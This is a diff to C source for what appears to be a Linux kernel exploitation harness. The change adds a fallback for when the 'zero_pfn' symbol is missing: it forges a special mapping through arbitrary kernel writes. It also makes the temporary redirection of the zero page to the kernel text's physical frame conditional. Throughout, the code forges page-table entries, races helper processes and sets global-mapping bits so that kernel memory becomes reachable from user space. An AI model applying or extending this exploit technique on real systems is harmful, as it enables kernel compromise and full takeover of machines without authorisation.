@@ -11,6 +11,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "addresses.h"
 #include "attack.h"
 #include "deposit.h"
 #include "list.h"
@@ -27,6 +28,7 @@
 #define GLOBAL		(1UL << 8)
 #define WRITER_SLOT	77
 #define LINKER_SLOT	3
+#define ZERO		"zero_pfn"
 
 static struct {
 	volatile bool ready[2], go[2], done;
@@ -38,6 +40,15 @@ static uint64_t words[STACK_WORDS];
 static char *room(int who)
 {
 	return (char *)user_room(ROOM_PART + who) + 4 * PMD_SIZE;
+}
+
+/* Where the zero page is constant, a fault finds a special mapping's first page there. */
+static bool make_special_at(uint64_t vma, volatile char *at, int slot)
+{
+	uint64_t first = find_word(vma, VMA_SIZE, (uintptr_t)at / PAGE_SIZE);
+
+	return first && !kwrite64(first, -(PMD_SIZE / PAGE_SIZE + slot)) &&
+	       make_special(vma, text_phys());
 }
 
 /* A fault where there is a table of PMDs, and none below. */
@@ -61,6 +72,8 @@ static void fault(int who)
 	vma = find_vma(at);
 	if (!who)
 		kwrite64(vma + VMA_PROT, kread64(vma + VMA_PROT) | GLOBAL);
+	if (!who && !ksymbol(ZERO) && !make_special_at(vma, at, slot))
+		_exit(1);
 	shared->ready[who] = true;
 	while (!shared->go[who])
 		usleep(PAUSE);
@@ -145,7 +158,7 @@ static pid_t start(int who)
 
 enum outcome global_entry(void)
 {
-	uint64_t zero = ksymbol("zero_pfn"), old, deposit, target, value = 0, new;
+	uint64_t zero = ksymbol(ZERO), old, deposit, value = 0, new;
 	struct kernel_page forged;
 	struct task task;
 	struct huge huge;
@@ -164,7 +177,6 @@ enum outcome global_entry(void)
 	if (!writer || !linker || !make_huge(&huge) || !kernel_page(&forged))
 		return broken("no processes or no huge page");
 	deposit = (huge.deposit - memory_map_base()) / STRUCT_PAGE * PAGE_SIZE;
-	target = text_phys() / PAGE_SIZE;
 	kwrite64(forged.addr, deposit | PTE_TABLE);
 
 	/* An entry in the deposit. */
@@ -175,12 +187,14 @@ enum outcome global_entry(void)
 		set_lock(shared->lock[0], false);
 		return broken("no fault waited");
 	}
-	old = kread64(zero);
-	kwrite64(zero, target);
+	old = zero ? kread64(zero) : 0;
+	if (zero)
+		kwrite64(zero, text_phys() / PAGE_SIZE);
 	kill(writer, SIGKILL);
 	set_lock(shared->lock[0], false);
 	usleep(50 * PAUSE);
-	kwrite64(zero, old);
+	if (zero)
+		kwrite64(zero, old);
 	value = kread64(direct_map_base() + deposit + WRITER_SLOT * sizeof(value));
 	if (!(value & GLOBAL))
 		return lost("the entry of the deposit is 0x%lx", value);
